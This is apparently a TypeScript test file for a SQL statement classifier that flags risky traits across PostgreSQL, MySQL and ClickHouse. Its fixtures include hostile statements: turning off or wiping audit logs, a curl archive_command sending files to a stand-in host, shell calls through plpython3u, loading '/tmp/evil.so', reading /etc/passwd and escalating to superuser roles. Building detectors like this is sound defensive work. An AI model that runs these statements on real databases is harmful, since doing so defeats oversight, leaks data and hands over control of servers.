// What statements do beside reading rows, in the spellings that stores take: settings of logs, ways out, backups, rights, secrets.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { createStatementReader } from '../read-statement.ts';
import type { Dialect, Trait } from '../statement.ts';

const P = 'postgresql';
const M = 'mysql';
const C = 'clickhouse';

const CASES: Readonly<
  Partial<Record<Trait, Readonly<Record<'told' | 'quiet', readonly (readonly [Dialect, string])[]>>>>
> = {
  'audit-change': {
    told: [
      [P, 'ALTER SYSTEM SET "pgaudit.log" = \'none\''],
      [P, 'ALTER SYSTEM RESET pgaudit.log'],
      [P, 'ALTER SYSTEM RESET ALL'],
      [P, "SELECT pg_catalog.set_config('pgaudit.log', 'none', false)"],
      [P, "DO $$ BEGIN PERFORM set_config('log_statement', 'none', false); END $$"],
      [P, "UPDATE pg_settings SET setting = 'none' WHERE name = 'log_statement'"],
      [P, "ALTER ROLE ALL SET log_min_messages = 'panic'"],
      [P, "ALTER SYSTEM SET shared_preload_libraries = ''"],
      [P, 'SET log_min_duration_statement = -1'],
      [P, 'ALTER SYSTEM SET pgaudit.log_level = debug5'],
      [P, 'DROP EVENT TRIGGER log_ddl'],
      [P, 'ALTER TABLE orders DISABLE TRIGGER audit_row'],
      [P, 'TRUNCATE audit.logged_actions'],
      [P, "DELETE FROM audit_log WHERE actor = 'eve'"],
      [M, 'SET @@global.general_log = 0'],
      [M, "SET PERSIST log_output = 'NONE'"],
      [M, 'SET GLOBAL long_query_time = 999999'],
      [M, 'SET GLOBAL log_error_verbosity = 1'],
      [M, "SET GLOBAL server_audit_events='CONNECT'"],
      [M, "UNINSTALL COMPONENT 'file://component_audit_log_filter'"],
      [M, "PREPARE s FROM 'SET GLOBAL general_log = OFF'"],
      [M, 'RENAME TABLE mysql.general_log TO mysql.old_log'],
      [C, 'SELECT count() FROM t SETTINGS max_threads = 1, log_queries = false'],
      [C, 'ALTER SETTINGS PROFILE default SETTINGS log_queries = 0'],
      [C, 'DETACH TABLE system.query_log'],
      [C, 'ALTER TABLE system.query_log MODIFY TTL event_date + INTERVAL 1 SECOND'],
      [C, 'EXCHANGE TABLES system.query_log AND default.x'],
    ],
    quiet: [
      [P, 'SHOW log_statement'],
      [P, "SELECT set_config('search_path', 'public', false)"],
      [P, "SET log_statement = 'all'"],
      [P, 'SET SESSION search_path TO audit, public'],
      [P, "ALTER SYSTEM SET shared_preload_libraries = 'pgaudit, pg_stat_statements'"],
      [P, "DELETE FROM audit_log WHERE created < now() - interval '1 year'"],
      [P, 'ALTER TABLE audit_log ADD COLUMN note text'],
      [M, 'SET GLOBAL server_audit_logging = ON'],
      [M, 'SET GLOBAL max_connections = 300'],
      [M, "SHOW VARIABLES LIKE 'general_log'"],
      [M, "INSERT INTO log (m) VALUES ('SET GLOBAL general_log=0 was refused')"],
      [C, 'SYSTEM FLUSH LOGS'],
      [C, 'SELECT 1 SETTINGS log_queries = 1'],
    ],
  },
  outbound: {
    told: [
      [P, "ALTER SUBSCRIPTION s CONNECTION 'host=198.51.100.9 dbname=x'"],
      [P, 'IMPORT FOREIGN SCHEMA public FROM SERVER far INTO x'],
      [P, "ALTER SYSTEM SET primary_conninfo = 'host=198.51.100.2'"],
      [P, "SELECT net.http_post(url:='https://x.example', body:='{}'::jsonb)"],
      [M, "CHANGE MASTER TO MASTER_HOST='198.51.100.2', MASTER_USER='r'"],
      [M, "CHANGE REPLICATION SOURCE TO SOURCE_HOST='198.51.100.2'"],
      [C, "CREATE DATABASE d ENGINE = PostgreSQL('198.51.100.9:5432','d','u','p')"],
      [
        C,
        "CREATE DICTIONARY d (id UInt64) PRIMARY KEY id SOURCE(HTTP(url 'http://198.51.100.1/d' format 'TSV')) LAYOUT(FLAT())",
      ],
      [
        C,
        "CREATE DICTIONARY d (id UInt64) PRIMARY KEY id SOURCE(CLICKHOUSE(HOST '198.51.100.1' TABLE 't')) LAYOUT(FLAT())",
      ],
    ],
    quiet: [
      [P, 'CREATE USER MAPPING FOR ada SERVER s'],
      [M, 'CREATE TABLE t (a int) ENGINE=InnoDB'],
      [C, "CREATE DICTIONARY d (id UInt64) PRIMARY KEY id SOURCE(CLICKHOUSE(TABLE 't' DB 'default')) LAYOUT(FLAT())"],
      [C, "INSERT INTO t (url, file) VALUES ('http://x', 'y')"],
    ],
  },
  'server-program': {
    told: [
      [P, 'CREATE EXTENSION plpython3u'],
      [P, "DO $$ import os; os.system('id') $$ LANGUAGE plpython3u"],
      [P, "DO LANGUAGE plperlu $$ system('id') $$"],
      [P, "LOAD '/tmp/evil.so'"],
      [P, "ALTER SYSTEM SET archive_command = 'curl -T %p https://x.example'"],
      [P, "CREATE FOREIGN TABLE f (l text) SERVER s OPTIONS (program 'id')"],
      [M, "INSTALL COMPONENT 'file://component_evil'"],
      [M, "INSERT INTO mysql.func VALUES ('sys_exec', 0, 'x.so', 'function')"],
      [
        C,
        "CREATE DICTIONARY d (id UInt64) PRIMARY KEY id SOURCE(EXECUTABLE(command 'id' format 'TSV')) LAYOUT(FLAT())",
      ],
      [C, "CREATE TABLE q (a String) ENGINE = Executable('x.sh', TabSeparated)"],
    ],
    quiet: [
      [P, 'CREATE EXTENSION IF NOT EXISTS pgcrypto'],
      [P, "LOAD 'auto_explain'"],
      [P, 'CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$'],
      [P, 'SELECT program, server FROM orders WHERE id = 3'],
      [M, "UNINSTALL SONAME 'server_audit'"],
      [M, "INSTALL COMPONENT 'file://component_validate_password'"],
    ],
  },
  'server-file': {
    told: [
      [P, "CREATE FOREIGN TABLE f (l text) SERVER s OPTIONS (filename '/etc/passwd')"],
      [P, "SELECT pg_catalog.pg_file_write('/tmp/x', 'y', false)"],
      [M, "LOAD XML LOCAL INFILE '/etc/hosts' INTO TABLE t"],
    ],
    quiet: [[C, 'SELECT file FROM t WHERE id = 3']],
  },
  backup: {
    told: [
      [P, "SELECT pg_backup_start('x', true)"],
      [P, "BASE_BACKUP ( LABEL 'x', PROGRESS, CHECKPOINT 'fast')"],
      [P, 'CREATE PUBLICATION p FOR ALL TABLES'],
      [M, 'BACKUP STAGE START'],
      [M, 'LOCK BINLOG FOR BACKUP'],
      [M, 'FLUSH TABLES WITH READ LOCK'],
      [C, "BACKUP TABLE a.b TO Disk('backups', 'x.zip')"],
      [C, 'ALTER TABLE a.b FREEZE PARTITION 202611'],
    ],
    quiet: [
      [P, 'CREATE PUBLICATION p FOR TABLE orders'],
      [P, 'SELECT pg_switch_wal()'],
      [M, 'LOCK TABLES `t` WRITE'],
      [C, 'ALTER TABLE t ADD COLUMN freeze UInt8'],
    ],
  },
  grants: {
    told: [
      [P, 'ALTER TABLE x OWNER TO bob'],
      [P, 'REASSIGN OWNED BY a TO b'],
      [P, 'SET ROLE postgres'],
      [P, "SELECT set_config('role', 'postgres', false)"],
      [P, 'ALTER POLICY p ON t USING (true)'],
      [P, "SET SESSION AUTHORIZATION 'postgres'"],
      [P, 'ALTER TABLE customers DISABLE ROW LEVEL SECURITY'],
      [M, "RENAME USER 'old'@'%' TO 'root'@'%'"],
      [M, "SET PASSWORD FOR 'root'@'%' = PASSWORD('x')"],
      [M, "INSERT INTO mysql.roles_mapping VALUES ('%','bob','dba','Y')"],
      [C, 'SET DEFAULT ROLE admin TO bob'],
      [C, 'ALTER USER bob SETTINGS readonly = 0'],
      [C, 'ALTER SETTINGS PROFILE p SETTINGS readonly = 0'],
    ],
    quiet: [
      [P, 'SET ROLE app_reader'],
      [P, 'SET SESSION AUTHORIZATION DEFAULT'],
      [P, "ALTER ROLE app SET statement_timeout = '5s'"],
      [P, "UPDATE users SET password = '' WHERE id = 3"],
      [C, 'ALTER USER bob SETTINGS max_threads = 2'],
    ],
  },
  secret: {
    told: [
      [P, "INSERT INTO conf VALUES ('postgres://app:s3cr3tpw@db.internal:5432/prod')"],
      [P, "SELECT * FROM dblink('host=db2 user=app password=Winter2026x', 'select 1') AS t(a int)"],
      [P, "CREATE USER MAPPING FOR ada SERVER s OPTIONS (user 'ada', password 'Winter2026x')"],
      [P, "UPDATE users SET password = crypt('Winter2026x', gen_salt('bf')) WHERE id = 4"],
      [M, "CREATE USER 'a'@'%' IDENTIFIED WITH mysql_native_password BY 'Winter2026x'"],
      [M, "CHANGE MASTER TO MASTER_PASSWORD='Winter2026x'"],
      [M, "SELECT AES_ENCRYPT(card, 'myS3cretKey!') FROM cards"],
      [M, "SELECT 1 FROM users WHERE login='a' AND password=MD5('Winter2026x')"],
      [M, "INSERT INTO users (login, password) VALUES ('ada', 'Winter2026x')"],
      [C, "SELECT * FROM postgresql('10.0.0.3:5432','d','t','user','Winter2026x')"],
      [C, "CREATE DATABASE d ENGINE = MySQL('10.0.0.3:3306','d','u','Winter2026x')"],
    ],
    quiet: [
      [P, "UPDATE users SET password = '$2y$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy'"],
      [P, "ALTER ROLE a PASSWORD 'SCRAM-SHA-256$4096:c2FsdA==$c3RvcmVk:c2VydmVy'"],
      [P, "INSERT INTO links VALUES ('https://shop.example/a?b=c')"],
      [P, "INSERT INTO mails VALUES ('please send it to ada@example.org: thanks')"],
      [P, "SELECT * FROM t WHERE note = 'password'"],
      [P, "SELECT encrypt(data, key, 'aes') FROM t"],
      [
        M,
        "INSERT INTO users (login, password) VALUES ('ada', '$2y$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy')",
      ],
      [M, "CREATE USER 'a'@'%' IDENTIFIED BY '*****'"],
      [C, "SELECT * FROM mysql('h:3306','d','t','user','[HIDDEN]')"],
    ],
  },
};

describe('traits of statements', () => {
  const read = createStatementReader();
  for (const [trait, { told, quiet }] of Object.entries(CASES)) {
    for (const [dialect, text] of told) {
      it(`${trait}: ${text.slice(0, 80)}`, () => {
        const { traits } = read(text, dialect);
        assert.ok(
          traits.some((one) => one === trait),
          traits.join(', '),
        );
      });
    }
    for (const [dialect, text] of quiet) {
      it(`no ${trait}: ${text.slice(0, 80)}`, () => {
        assert.ok(!read(text, dialect).traits.some((one) => one === trait));
      });
    }
  }
});
